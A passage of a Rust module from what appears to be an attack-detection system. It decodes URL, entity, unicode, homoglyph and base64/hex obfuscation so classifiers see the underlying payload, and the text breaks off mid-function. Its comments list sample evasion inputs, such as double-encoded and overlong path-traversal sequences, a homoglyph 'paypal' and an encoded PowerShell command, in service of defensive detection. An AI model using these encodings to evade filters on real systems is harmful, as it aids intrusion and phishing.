//! Input normalization: what the models read, so that an obfuscated payload is seen for what it
//! is. `%252e%252e%252f`, `&#x2e;&#x2e;/`, `\u002e\u002e/`, `．．／` and `..%c0%af` all become `../`;
//! `pаypal` with a Cyrillic `а` becomes `paypal`; `powershell -enc SQBFAFgA…` shows the decoded
//! command.
//!
//! What is done, in order:
//! 1. **Escape rounds** (at most [`MAX_DECODE_ROUNDS`], repeated while a round changed something,
//!    so double and triple encodings unwrap): URL percent escapes (`%XX`, decoded as UTF-8 and
//!    leniently, so the overlong forms `%c0%af` and `%e0%80%af` that some servers accepted for `/`
//!    decode too; `%uXXXX`), HTML entities (common named ones and numeric `&#NN;`/`&#xHH;`, the
//!    `;` optional for numeric ones as browsers allow), `\uXXXX`, `\u{X}` and `\xXX` escapes;
//!    unicode: fullwidth forms to ASCII, zero-width and bidi controls removed, look-alike letters
//!    (Cyrillic, Greek, mathematical, circled) to ASCII when they sit in a word that also has ASCII
//!    letters (a whole Russian word stays Russian), look-alike slashes, dots, quotes and dashes to
//!    ASCII, other uppercase letters lowercased; runs of whitespace (and control characters)
//!    collapsed to one space and trimmed. An escape that decodes to a control character other
//!    than whitespace is left as written (`%00` stays `%00`: the model should see the tell, not an
//!    invisible byte), and `+` is not read as a space (it is one only in form bodies, and base64 and
//!    arithmetic use it).
//! 2. **Blob pass** (at most [`MAX_BLOB_PASSES`], each followed by escape rounds over its output):
//!    base64 runs of at least [`MIN_BLOB_CHARS`] (standard or URL alphabet) that decode to mostly
//!    printable text (UTF-8, or UTF-16LE as PowerShell's `-EncodedCommand` uses), long hex strings
//!    (at least 16 digits with a letter, or `0x` and at least 8 digits) and runs of `0xHH` units
//!    that decode to text. The blob is **substituted** in place by `[base64: decoded]` or
//!    `[hex: decoded]`: the decoded text is what says what the blob does, the random characters of
//!    the blob itself would only add noise n-grams, and the marker keeps the fact that something was
//!    encoded (itself a tell) as words the models can weigh.
//! 3. ASCII lowercasing (last, because base64 is case-sensitive).
//!
//! A text with nothing to decode (the common log line) takes a fast path: one scan and one
//! lowercased copy. Every pass that moved bytes keeps a [`SpanMap`] from its output back to its
//! input, so [`Normalized::original_span`] maps evidence found in the normalized text back to the
//! bytes the user sent, and [`Normalized::decodings`] lists what was decoded where.

use serde::Serialize;
use std::borrow::Cow;
use std::ops::Range;

/// Longest input normalized, in bytes; the rest of a longer text is dropped (and
/// [`Normalized::truncated`] set). The models read far less than this.
pub const MAX_INPUT_BYTES: usize = 64 * 1024;
/// Escape-decoding rounds after each blob pass: enough for triple URL encoding plus an entity.
pub const MAX_DECODE_ROUNDS: usize = 4;
/// Base64/hex blob passes (a blob inside a decoded blob is decoded once more, no deeper).
pub const MAX_BLOB_PASSES: usize = 2;
/// Shortest run decoded as base64 (hex needs 16 digits, or 8 after `0x`).
pub const MIN_BLOB_CHARS: usize = 16;
/// Longest part of one blob decoded, in encoded bytes; a longer blob is decoded up to here.
pub const MAX_BLOB_BYTES: usize = 16 * 1024;
/// Decodings recorded per text; later ones still happen but are not listed.
pub const MAX_DECODINGS: usize = 256;

/// A text as the models see it, with the way back to the original.
#[derive(Debug, Clone, PartialEq)]
pub struct Normalized {
    /// The decoded, lowercased, whitespace-collapsed text the models read.
    pub text: String,
    /// What was decoded, in the order found, with the byte span of the original text it came
    /// from. Adjacent decodings of one kind are merged (`%2e%2e%2f` is one entry).
    pub decodings: Vec<Decoding>,
    /// Whether the input was longer than [`MAX_INPUT_BYTES`] and only its start was normalized.
    pub truncated: bool,
    /// One map per pass that moved bytes, first pass first.
    maps: Vec<SpanMap>,
    /// Length of the (possibly truncated) original.
    original_len: usize,
}

/// One decoding applied to the text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Decoding {
    pub kind: DecodingKind,
    /// Byte span of the original text.
    pub original: Range<usize>,
}

/// What kind of encoding or disguise was undone.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum DecodingKind {
    /// `%XX` URL escapes.
    Percent,
    /// `%uXXXX` (IIS-style) escapes.
    PercentUnicode,
    /// `&lt;`, `&#60;`, `&#x3c;`.
    HtmlEntity,
    /// `\uXXXX` and `\u{X}`.
    UnicodeEscape,
    /// `\xXX`.
    HexEscape,
    /// Fullwidth forms (`ｓｅｌｅｃｔ`).
    Fullwidth,
    /// Look-alike letters and punctuation from other scripts or symbol blocks.
    Homoglyph,
    /// Zero-width and bidi control characters (removed).
    Invisible,
    /// A base64 blob decoded as UTF-8 text.
    Base64,
    /// A base64 blob decoded as UTF-16LE text (PowerShell `-EncodedCommand`).
    Base64Utf16,
    /// A hex string or a run of `0xHH` units decoded as text.
    Hex,
}

impl DecodingKind {
    pub fn as_str(self) -> &'static str {
        match self {
            DecodingKind::Percent => "percent",
            DecodingKind::PercentUnicode => "percent_unicode",
            DecodingKind::HtmlEntity => "html_entity",
            DecodingKind::UnicodeEscape => "unicode_escape",
            DecodingKind::HexEscape => "hex_escape",
            DecodingKind::Fullwidth => "fullwidth",
            DecodingKind::Homoglyph => "homoglyph",
            DecodingKind::Invisible => "invisible",
            DecodingKind::Base64 => "base64",
            DecodingKind::Base64Utf16 => "base64_utf16",
            DecodingKind::Hex => "hex",
        }
    }
}

impl Normalized {
    /// The byte span of the original text that `span` of [`Normalized::text`] came from. Always a
    /// valid span of char boundaries of the original (as given to [`normalize`], cut to
    /// [`MAX_INPUT_BYTES`]): `span` is first clamped to the text and widened to char boundaries,
    /// and a normalized byte that came from a decoded escape or blob maps to the whole escape or
    /// blob.
    pub fn original_span(&self, span: Range<usize>) -> Range<usize> {
        let text = &self.text;
        let mut start = span.start.min(text.len());
        let mut end = span.end.clamp(start, text.len());
        while !text.is_char_boundary(start) {
            start -= 1;
        }
        while !text.is_char_boundary(end) {
            end += 1;
        }
        let mut range = start..end;
        for map in self.maps.iter().rev() {
            range = map.map_back(range);
        }
        range.start.min(self.original_len)..range.end.min(self.original_len)
    }

    /// Whether anything was decoded (not just lowercased and whitespace-collapsed).
    pub fn is_decoded(&self) -> bool {
        !self.decodings.is_empty()
    }
}

/// Normalizes `text` for the models (see the module documentation). Never fails: any UTF-8 input
/// gives a text, possibly empty.
pub fn normalize(text: &str) -> Normalized {
    let mut cut = text.len().min(MAX_INPUT_BYTES);
    while !text.is_char_boundary(cut) {
        cut -= 1;
    }
    let input = &text[..cut];
    let mut n = Normalized {
        text: String::new(),
        decodings: Vec::new(),
        truncated: cut < text.len(),
        maps: Vec::new(),
        original_len: input.len(),
    };
    let mut current: Cow<str> = Cow::Borrowed(input);
    for blob_pass in 0..=MAX_BLOB_PASSES {
        for _ in 0..MAX_DECODE_ROUNDS {
            if !needs_decode_pass(&current) {
                break;
            }
            match decode_pass(&current, &n.maps, &mut n.decodings) {
                Some((out, map)) => {
                    n.maps.extend(map);
                    current = Cow::Owned(out);
                }
                None => break,
            }
        }
        if blob_pass == MAX_BLOB_PASSES {
            break;
        }
        match blob_pass_over(&current, &n.maps, &mut n.decodings) {
            Some((out, map)) => {
                n.maps.push(map);
                current = Cow::Owned(out);
            }
            None => break,
        }
    }
    let mut out = current.into_owned();
    out.make_ascii_lowercase();
    n.text = out;
    n
}

// ---------------------------------------------------------------------------------------------
// Span maps

/// A stretch of a pass's output and the input it came from. A copy segment holds the same bytes on
/// both sides (positions map one to one); any other maps every output byte to the whole input span.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Segment {
    out_start: u32,
    out_end: u32,
    in_start: u32,
    in_end: u32,
    copy: bool,
}

/// How one pass's output maps back to its input: segments in output order, contiguous in the
/// output, non-decreasing in the input. Input bytes no segment covers were dropped.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
struct SpanMap {
    segments: Vec<Segment>,
}

impl SpanMap {
    fn map_back(&self, span: Range<usize>) -> Range<usize> {
        if self.segments.is_empty() {
            return 0..0;
        }
        let start = self.map_position(span.start, false);
        if span.end <= span.start {
            return start..start;
        }
        let end = self.map_position(span.end, true).max(start);
        start..end
    }

    /// Input position of output position `p`: as a span start (`is_end` false, the segment
    /// holding byte `p`) or as an exclusive span end (the segment holding byte `p - 1`).
    fn map_position(&self, p: usize, is_end: bool) -> usize {
        let probe = if is_end { p.saturating_sub(1) } else { p };
        let probe = probe as u32;
        let ix = self.segments.partition_point(|s| s.out_start <= probe).saturating_sub(1);
        let seg = self.segments[ix];
        if probe >= seg.out_end {
            // Past the end of the output.
            return seg.in_end as usize;
        }
        if seg.copy {
            let offset = p as u32 - seg.out_start;
            (seg.in_start + offset.min(seg.in_end - seg.in_start)) as usize
        } else if is_end {
            seg.in_end as usize
        } else {
            seg.in_start as usize
        }
    }

    /// Whether the map is the identity over an input of `len` bytes.
    fn is_identity(&self, len: usize) -> bool {
        match self.segments.as_slice() {
            [] => len == 0,
            [s] => s.copy && s.in_start == 0 && s.in_end as usize == len && s.out_start == 0,
            _ => false,
        }
    }
}

/// Maps a span of the current pass's input back to the original through the earlier maps.
fn to_original(maps: &[SpanMap], span: Range<usize>) -> Range<usize> {
    maps.iter().rev().fold(span, |r, m| m.map_back(r))
}

/// Adds a decoding, merging it with the previous one when it is of the same kind and adjacent.
fn record(decodings: &mut Vec<Decoding>, maps: &[SpanMap], kind: DecodingKind, span: Range<usize>) {
    let original = to_original(maps, span);
    if let Some(last) = decodings.last_mut() {
        if last.kind == kind && original.start <= last.original.end && original.end >= last.original.start {
            last.original.start = last.original.start.min(original.start);
            last.original.end = last.original.end.max(original.end);
            return;
        }
    }
    if decodings.len() < MAX_DECODINGS {
        decodings.push(Decoding { kind, original });
    }
}

/// Builds a pass's output and its map.
struct Writer {
    out: String,
    segments: Vec<Segment>,
    /// Whitespace seen but not yet written: its input span and whether it was exactly one ASCII
    /// space (then it is copied, not replaced, and the text is unchanged by it).
    pending_space: Option<(Range<usize>, bool)>,
    changed: bool,
}

impl Writer {
    fn with_capacity(n: usize) -> Writer {
        Writer { out: String::with_capacity(n), segments: Vec::new(), pending_space: None, changed: false }
    }

    fn flush_space(&mut self) {
        if let Some((range, plain)) = self.pending_space.take() {
            if self.out.is_empty() {
                self.changed = true; // leading whitespace is trimmed
            } else if plain {
                self.push_copy(range.start, " ");
            } else {
                self.changed = true;
                self.push_replace(range, " ");
            }
        }
    }

    fn push_copy(&mut self, in_start: usize, s: &str) {
        let out_start = self.out.len() as u32;
        self.out.push_str(s);
        let (in_start, in_end, out_end) = (in_start as u32, (in_start + s.len()) as u32, self.out.len() as u32);
        if let Some(last) = self.segments.last_mut() {
            if last.copy && last.in_end == in_start && last.out_end == out_start {
                last.in_end = in_end;
                last.out_end = out_end;
                return;
            }
        }
        self.segments.push(Segment { out_start, out_end, in_start, in_end, copy: true });
    }

    fn push_replace(&mut self, range: Range<usize>, s: &str) {
        let out_start = self.out.len() as u32;
        self.out.push_str(s);
        self.segments.push(Segment {
            out_start,
            out_end: self.out.len() as u32,
            in_start: range.start as u32,
            in_end: range.end as u32,
            copy: false,
        });
    }

    /// Copies input text unchanged.
    fn copy(&mut self, in_start: usize, s: &str) {
        self.flush_space();
        self.push_copy(in_start, s);
    }

    /// Writes `s` in place of the input `range` (nothing, for a removal).
    fn replace(&mut self, range: Range<usize>, s: &str) {
        self.changed = true;
        if s.is_empty() {
            return;
        }
        self.flush_space();
        self.push_replace(range, s);
    }

    fn replace_char(&mut self, range: Range<usize>, c: char) {
        let mut buf = [0u8; 4];
        self.replace(range, c.encode_utf8(&mut buf));
    }

    /// Whitespace over the input `range`; runs collapse to one space, leading and trailing ones go.
    fn whitespace(&mut self, range: Range<usize>, plain: bool) {
        match &mut self.pending_space {
            Some((r, p)) => {
                r.end = range.end;
                *p = false;
            }
            None => self.pending_space = Some((range, plain)),
        }
    }

    /// A separating space that comes from no input (around a blob marker), at input position `at`.
    fn virtual_space(&mut self, at: usize) {
        if self.pending_space.is_none() {
            self.pending_space = Some((at..at, false));
        }
    }

    /// The output and its map, or `None` when the output equals the input.
    fn finish(mut self, input_len: usize) -> Option<(String, Option<SpanMap>)> {
        if self.pending_space.take().is_some_and(|(r, _)| !r.is_empty()) {
            self.changed = true; // trailing whitespace is trimmed
        }
        if !self.changed {
            return None;
        }
        let map = SpanMap { segments: self.segments };
        let map = if map.is_identity(input_len) && self.out.len() == input_len { None } else { Some(map) };
        Some((self.out, map))
    }
}

// ---------------------------------------------------------------------------------------------
// Escape rounds

/// Bytes copied as they are by an escape round.
#[inline]
fn is_plain(b: u8) -> bool {
    (0x21..=0x7e).contains(&b) && !matches!(b, b'%' | b'&' | b'\\')
}

/// Whether an escape round could change `s`: an escape introducer, a non-ASCII byte, a control
/// byte, or whitespace other than single spaces between words.
fn needs_decode_pass(s: &str) -> bool {
    let bytes = s.as_bytes();
    if bytes.first() == Some(&b' ') || bytes.last() == Some(&b' ') {
        return true;
    }
    let mut prev_space = false;
    for &b in bytes {
        if is_plain(b) {
            prev_space = false;
        } else if b == b' ' {
            if prev_space {
                return true;
            }
            prev_space = true;
        } else {
            return true;
        }
    }
    false
}

fn hex_val(b: u8) -> Option<u32> {
    (b as char).to_digit(16)
}

/// `n` hex digits at `bytes[at..]`.
fn hex_digits(bytes: &[u8], at: usize, n: usize) -> Option<u32> {
    let digits = bytes.get(at..at + n)?;
    digits.iter().try_fold(0u32, |acc, &b| Some(acc * 16 + hex_val(b)?))
}

/// An escaped byte unit of a UTF-8 sequence: `%XX` or `\xXX`.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ByteEscape {
    Percent,
    Backslash,
}

impl ByteEscape {
    fn parse(self, bytes: &[u8], at: usize) -> Option<u8> {
        let ok = match self {
            ByteEscape::Percent => bytes.get(at) == Some(&b'%'),
            ByteEscape::Backslash => bytes.get(at) == Some(&b'\\') && matches!(bytes.get(at + 1), Some(b'x' | b'X')),
        };
        if !ok {
            return None;
        }
        let digits = if self == ByteEscape::Percent { at + 1 } else { at + 2 };
        hex_digits(bytes, digits, 2).map(|v| v as u8)
    }

    fn unit_len(self) -> usize {
        match self {
            ByteEscape::Percent => 3,
            ByteEscape::Backslash => 4,
        }
    }
}

/// Decodes one character from escaped UTF-8 byte units at `at`, leniently: overlong forms decode
/// (servers that accepted them are what the attacker targets). Returns the character and the
/// input length consumed.
fn escaped_utf8(bytes: &[u8], at: usize, esc: ByteEscape) -> Option<(char, usize)> {
    let unit = esc.unit_len();
    let lead = esc.parse(bytes, at)?;
    let (len, mut cp) = match lead {
        0x00..=0x7f => return Some((lead as char, unit)),
        0xc0..=0xdf => (2, u32::from(lead & 0x1f)),
        0xe0..=0xef => (3, u32::from(lead & 0x0f)),
        0xf0..=0xf7 => (4, u32::from(lead & 0x07)),
        _ => return None,
    };
    for k in 1..len {
        let b = esc.parse(bytes, at + k * unit)?;
        if b & 0xc0 != 0x80 {
            return None;
        }
        cp = (cp << 6) | u32::from(b & 0x3f);
    }
    char::from_u32(cp).map(|c| (c, len * unit))
}

/// One escape round over `input`. `prior` maps `input` back to the original (for the decodings'
/// spans). `None` when nothing changed.
fn decode_pass(input: &str, prior: &[SpanMap], decodings: &mut Vec<Decoding>) -> Option<(String, Option<SpanMap>)> {
    let bytes = input.as_bytes();
    let mut w = Writer::with_capacity(input.len());
    // End of the last decoded `\xXX`, to tell a run of them from a lone one.
    let mut last_hex_escape_end = usize::MAX;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if is_plain(b) {
            let start = i;
            while i < bytes.len() && is_plain(bytes[i]) {
                i += 1;
            }
            w.copy(start, &input[start..i]);
            continue;
        }
        let decoded: Option<(char, usize, DecodingKind)> = match b {
            b'%' => percent_at(bytes, i),
            b'&' => entity_at(bytes, i).map(|(c, n)| (c, n, DecodingKind::HtmlEntity)),
            b'\\' => backslash_at(bytes, i, last_hex_escape_end),
            _ => None,
        };
        if let Some((c, n, kind)) = decoded {
            let range = i..i + n;
            if emit_decoded(&mut w, c, range.clone(), input) {
                record(decodings, prior, kind, range);
                if kind == DecodingKind::HexEscape {
                    last_hex_escape_end = i + n;
                }
            }
            i += n;
            continue;
        }
        match b {
            b' ' => {
                w.whitespace(i..i + 1, true);
                i += 1;
            }
            0x00..=0x1f | 0x7f => {
                // Tabs, newlines and other control bytes separate words like a space.
                w.whitespace(i..i + 1, false);
                i += 1;
            }
            0x80..=0xff => {
                let c = input[i..].chars().next().unwrap_or('\u{fffd}');
                let n = c.len_utf8();
                fold_char(&mut w, c, i..i + n, input, prior, decodings);
                i += n;
            }
            _ => {
                w.copy(i, &input[i..i + 1]);
                i += 1;
            }
        }
    }
    w.finish(input.len())
}

/// Writes a character an escape decoded to. A control character other than whitespace is not
/// decoded: the escape is copied as written. Returns whether it was decoded.
fn emit_decoded(w: &mut Writer, c: char, range: Range<usize>, input: &str) -> bool {
    if c.is_whitespace() {
        w.changed = true;
        w.whitespace(range, false);
        return true;
    }
    if c.is_control() {
        w.copy(range.start, &input[range]);
        return false;
    }
    // Look-alike letters are folded in the next round, which sees their neighbours.
    match unicode_fold(c, false) {
        Fold::Keep => {
            // ASCII keeps its case until the end: base64 is case-sensitive.
            let lower = if c.is_ascii() { c } else { lowercase(c) };
            w.replace_char(range, lower);
        }
        Fold::Drop(_) => w.replace(range, ""),
        Fold::Space => {
            w.changed = true;
            w.whitespace(range, false);
        }
        Fold::To(to, _) => w.replace_char(range, to),
    }
    true
}

/// The lowercase of `c` when it is one character, else `c`.
fn lowercase(c: char) -> char {
    let mut it = c.to_lowercase();
    match (it.next(), it.next()) {
        (Some(l), None) => l,
        _ => c,
    }
}

/// `%XX` (a UTF-8 sequence of them) or `%uXXXX` (a surrogate pair of them) at `at`.
fn percent_at(bytes: &[u8], at: usize) -> Option<(char, usize, DecodingKind)> {
    if matches!(bytes.get(at + 1), Some(b'u' | b'U')) {
        let hi = hex_digits(bytes, at + 2, 4)?;
        if (0xd800..0xdc00).contains(&hi) {
            if bytes.get(at + 6) == Some(&b'%') && matches!(bytes.get(at + 7), Some(b'u' | b'U')) {
                let lo = hex_digits(bytes, at + 8, 4)?;
                if (0xdc00..0xe000).contains(&lo) {
                    let cp = 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00);
                    return char::from_u32(cp).map(|c| (c, 12, DecodingKind::PercentUnicode));
                }
            }
            return None;
        }
        return char::from_u32(hi).map(|c| (c, 6, DecodingKind::PercentUnicode));
    }
    escaped_utf8(bytes, at, ByteEscape::Percent).map(|(c, n)| (c, n, DecodingKind::Percent))
}

/// `\uXXXX` (with surrogate pairs), `\u{X…}` or `\xXX` (a UTF-8 sequence of them) at `at`. A lone
/// `\xXX` that decodes to a letter or digit is left alone: `C:\x64\` is more likely a path than an
/// obfuscated `d`, while `\x3c` or `\x61\x6c\x65\x72\x74` are escapes.
fn backslash_at(bytes: &[u8], at: usize, last_hex_escape_end: usize) -> Option<(char, usize, DecodingKind)> {
    match bytes.get(at + 1) {
        Some(b'u') if bytes.get(at + 2) == Some(&b'{') => {
            let digits = bytes[at + 3..].iter().take(7).take_while(|b| b.is_ascii_hexdigit()).count();
            if digits == 0 || digits > 6 || bytes.get(at + 3 + digits) != Some(&b'}') {
                return None;
            }
            let cp = hex_digits(bytes, at + 3, digits)?;
            char::from_u32(cp).map(|c| (c, digits + 4, DecodingKind::UnicodeEscape))
        }
        Some(b'u' | b'U') => {
            let hi = hex_digits(bytes, at + 2, 4)?;
            if (0xd800..0xdc00).contains(&hi) {
                if bytes.get(at + 6) == Some(&b'\\') && matches!(bytes.get(at + 7), Some(b'u' | b'U')) {
                    let lo = hex_digits(bytes, at + 8, 4)?;
                    if (0xdc00..0xe000).contains(&lo) {
                        let cp = 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00);
                        return char::from_u32(cp).map(|c| (c, 12, DecodingKind::UnicodeEscape));
                    }
                }
                return None;
            }
            char::from_u32(hi).map(|c| (c, 6, DecodingKind::UnicodeEscape))
        }
        Some(b'x' | b'X') => {
            let (c, n) = escaped_utf8(bytes, at, ByteEscape::Backslash)?;
            let in_run = last_hex_escape_end == at || ByteEscape::Backslash.parse(bytes, at + n).is_some();
            if c.is_ascii_alphanumeric() && !in_run {
                return None;
            }
            Some((c, n, DecodingKind::HexEscape))
        }
        _ => None,
    }
}

/// Named HTML entities decoded (the ones that spell markup and punctuation, and `nbsp`).
const NAMED_ENTITIES: &[(&str, char)] = &[
    ("amp", '&'),
    ("AMP", '&'),
    ("lt", '<'),
    ("LT", '<'),
    ("gt", '>'),
    ("GT", '>'),
    ("quot", '"'),
    ("QUOT", '"'),
    ("apos", '\''),
    ("nbsp", '\u{a0}'),
    ("Tab", '\t'),
    ("NewLine", '\n'),
    ("sol", '/'),
    ("bsol", '\\'),
    ("colon", ':'),
    ("semi", ';'),
    ("comma", ','),
    ("period", '.'),
    ("excl", '!'),
    ("quest", '?'),
    ("lpar", '('),
    ("rpar", ')'),
    ("lsqb", '['),
    ("rsqb", ']'),
    ("lbrack", '['),
    ("rbrack", ']'),
    ("lcub", '{'),
    ("rcub", '}'),
    ("lbrace", '{'),
    ("rbrace", '}'),
    ("equals", '='),
    ("plus", '+'),
    ("ast", '*'),
    ("midast", '*'),
    ("num", '#'),
    ("percnt", '%'),
    ("dollar", '$'),
    ("grave", '`'),
    ("Hat", '^'),
    ("verbar", '|'),
    ("vert", '|'),
    ("VerticalLine", '|'),
    ("lowbar", '_'),
    ("commat", '@'),
    ("hyphen", '-'),
    ("dash", '-'),
    ("minus", '-'),
];

/// `&name;`, `&#NN;` or `&#xHH;` at `at` (the `;` optional for numeric entities).
fn entity_at(bytes: &[u8], at: usize) -> Option<(char, usize)> {
    let rest = &bytes[at + 1..];
    if rest.first() == Some(&b'#') {
        let hex = matches!(rest.get(1), Some(b'x' | b'X'));
        let digits_at = if hex { 2 } else { 1 };
        let digits = rest[digits_at..]
            .iter()
            .take(11)
            .take_while(|b| if hex { b.is_ascii_hexdigit() } else { b.is_ascii_digit() })
            .count();
        if digits == 0 || digits > 10 {
            return None;
        }
        let radix = if hex { 16 } else { 10 };
        let text = std::str::from_utf8(&rest[digits_at..digits_at + digits]).ok()?;
        let cp = u32::from_str_radix(text, radix).ok()?;
        let c = char::from_u32(cp).filter(|&c| c != '\0')?;
        let semicolon = usize::from(rest.get(digits_at + digits) == Some(&b';'));
        return Some((c, 1 + digits_at + digits + semicolon));
    }
    let name_len = rest.iter().take(13).take_while(|b| b.is_ascii_alphanumeric()).count();
    if name_len == 0 || rest.get(name_len) != Some(&b';') {
        return None;
    }
    let name = std::str::from_utf8(&rest[..name_len]).ok()?;
    NAMED_ENTITIES.iter().find(|(n, _)| *n == name).map(|&(_, c)| (c, name_len + 2))
}

// ---------------------------------------------------------------------------------------------
// Unicode folding

enum Fold {
    Keep,
    Drop(DecodingKind),
    Space,
    To(char, DecodingKind),
}

/// What a non-ASCII character becomes. `letter_context` says whether a look-alike letter sits in
/// a word that also has ASCII letters (only then is it folded).
fn unicode_fold(c: char, letter_context: bool) -> Fold {
    let cp = c as u32;
    match cp {
        0x00ad
        | 0x034f
        | 0x061c
        | 0x180e
        | 0x200b..=0x200f
        | 0x202a..=0x202e
        | 0x2060..=0x2064
        | 0x2066..=0x2069
        | 0xfeff => return Fold::Drop(DecodingKind::Invisible),
        0x0085 | 0x00a0 | 0x1680 | 0x2000..=0x200a | 0x2028 | 0x2029 | 0x202f | 0x205f | 0x3000 => return Fold::Space,
        0xff01..=0xff5e => {
            let ascii = char::from_u32(cp - 0xfee0).unwrap_or(c);
            return Fold::To(ascii.to_ascii_lowercase(), DecodingKind::Fullwidth);
        }
        _ => {}
    }
    let to = match c {
        '\u{2215}' | '\u{2044}' | '\u{29f8}' => '/',
        '\u{2216}' | '\u{fe68}' | '\u{29f9}' => '\\',
        '\u{2024}' | '\u{fe52}' | '\u{2027}' => '.',
        '\u{2010}'..='\u{2015}' | '\u{2212}' | '\u{fe63}' => '-',
        '\u{2018}' | '\u{2019}' | '\u{201a}' | '\u{201b}' | '\u{2032}' | '\u{02bc}' | '\u{02b9}' => '\'',
        '\u{201c}' | '\u{201d}' | '\u{201e}' | '\u{2033}' => '"',
        '\u{fe64}' | '\u{2039}' | '\u{02c2}' | '\u{2329}' | '\u{3008}' => '<',
        '\u{fe65}' | '\u{203a}' | '\u{02c3}' | '\u{232a}' | '\u{3009}' => '>',
        '\u{fe59}' => '(',
        '\u{fe5a}' => ')',
        '\u{fe54}' => ';',
        '\u{fe55}' | '\u{2236}' => ':',
        '\u{fe66}' => '=',
        '\u{ff5f}'..='\u{ffef}' => return Fold::Keep,
        _ => {
            return match homoglyph(c) {
                Some((l, needs_context)) if letter_context || !needs_context => Fold::To(l, DecodingKind::Homoglyph),
                _ => Fold::Keep,
            };
        }
    };
    Fold::To(to, DecodingKind::Homoglyph)
}

/// The ASCII letter or digit a look-alike character imitates, and whether it is a letter of a
/// living script (Cyrillic, Greek), folded only inside a word that has ASCII letters too.
fn homoglyph(c: char) -> Option<(char, bool)> {
    let cp = c as u32;
    let l = match c {
        // Cyrillic
        'а' | 'А' => 'a',
        'в' | 'В' => 'b',
        'е' | 'Е' | 'ё' => 'e',
        'һ' | 'Н' => 'h',
        'і' | 'І' | 'ӏ' => 'i',
        'ј' | 'Ј' => 'j',
        'к' | 'К' => 'k',
        'м' | 'М' => 'm',
        'о' | 'О' => 'o',
        'р' | 'Р' => 'p',
        'с' | 'С' => 'c',
        'ѕ' | 'Ѕ' => 's',
        'т' | 'Т' => 't',
        'у' | 'У' => 'y',
        'х' | 'Х' => 'x',
        'ԁ' => 'd',
        'ԛ' => 'q',
        'ԝ' => 'w',
        // Greek
        'α' | 'Α' => 'a',
        'Β' | 'β' => 'b',
        'ε' | 'Ε' => 'e',
        'Ζ' => 'z',
        'Η' => 'h',
        'ι' | 'Ι' => 'i',
        'κ' | 'Κ' => 'k',
        'Μ' => 'm',
        'ν' | 'Ν' => 'n',
        'ο' | 'Ο' => 'o',
        'ρ' | 'Ρ' => 'p',
        'τ' | 'Τ' => 't',
        'υ' | 'Υ' => 'y',
        'χ' | 'Χ' => 'x',
        // Latin look-alikes and symbol letters: never text of their own.
        'ı' => return Some(('i', false)),
        'ɡ' => return Some(('g', false)),
        'ℓ' | 'ǀ' => return Some(('l', false)),
        _ => {
            let symbol = match cp {
                // Mathematical alphanumeric letters: 13 styles of A–Z a–z, then digits.
                0x1d400..=0x1d6a3 => {
                    let k = (cp - 0x1d400) % 52;
                    char::from_u32(if k < 26 { u32::from(b'a') + k } else { u32::from(b'a') + k - 26 })
                }
                0x1d7ce..=0x1d7ff => char::from_u32(u32::from(b'0') + (cp - 0x1d7ce) % 10),
                // Circled letters.
                0x24b6..=0x24cf => char::from_u32(u32::from(b'a') + cp - 0x24b6),
                0x24d0..=0x24e9 => char::from_u32(u32::from(b'a') + cp - 0x24d0),
                _ => None,
            };
            return symbol.map(|l| (l, false));
        }
    };
    Some((l, true))
}

/// Whether the word around `input[range]` has an ASCII letter (looking at most 16 characters each
/// way).
fn in_latin_word(input: &str, range: Range<usize>) -> bool {
    let has_latin = |it: &mut dyn Iterator<Item = char>| {
        for c in it.take(16) {
            if c.is_ascii_alphabetic() {
                return true;
            }
            if !(c.is_alphabetic() || homoglyph(c).is_some()) {
                return false;
            }
        }
        false
    };
    has_latin(&mut input[..range.start].chars().rev()) || has_latin(&mut input[range.end..].chars())
}

/// Writes the folded form of non-ASCII `c` (found at `range` of `input`).
fn fold_char(
    w: &mut Writer,
    c: char,
    range: Range<usize>,
    input: &str,
    prior: &[SpanMap],
    decodings: &mut Vec<Decoding>,
) {
    let context = homoglyph(c).is_some_and(|(_, needs)| needs) && in_latin_word(input, range.clone());
    match unicode_fold(c, context) {
        Fold::Keep => {
            let mut lower = c.to_lowercase();
            if lower.len() == 1 && lower.next() == Some(c) {
                w.copy(range.start, &input[range]);
            } else {
                let mut buf = String::new();
                buf.extend(c.to_lowercase());
                w.replace(range, &buf);
            }
        }
        Fold::Drop(kind) => {
            w.replace(range.clone(), "");
            record(decodings, prior, kind, range);
        }
        Fold::Space => {
            w.changed = true;
            w.whitespace(range, false);
        }
        Fold::To(to, kind) => {
            w.replace_char(range.clone(), to);
            record(decodings, prior, kind, range);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Blob pass

/// Bytes of a base64 run (standard and URL-safe alphabets).
#[inline]
fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_')
}

fn b64_value(b: u8) -> Option<u32> {
    Some(match b {
        b'A'..=b'Z' => u32::from(b - b'A'),
        b'a'..=b'z' => u32::from(b - b'a') + 26,
        b'0'..=b'9' => u32::from(b - b'0') + 52,
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    })
}

/// Decodes base64 (padding already stripped); `None` for a length no encoder produces.
fn base64_decode(s: &[u8]) -> Option<Vec<u8>> {
    if s.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(s.len() / 4 * 3 + 2);
    let mut acc = 0u32;
    let mut bits = 0;
    for &b in s {
        acc = (acc << 6) | b64_value(b)?;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn hex_decode(s: &[u8]) -> Option<Vec<u8>> {
    if !s.len().is_multiple_of(2) {
        return None;
    }
    s.chunks(2).map(|p| Some((hex_val(p[0])? * 16 + hex_val(p[1])?) as u8)).collect()
}

/// Decoded bytes as text, when they are text: UTF-16LE when every other byte is zero (PowerShell),
/// else UTF-8; at least 4 characters, at most a tenth of them control or replacement characters.
/// Control characters become spaces and whitespace runs collapse.
fn as_text(bytes: &[u8], min_chars: usize) -> Option<(String, bool)> {
    let utf16 = bytes.len() >= 8
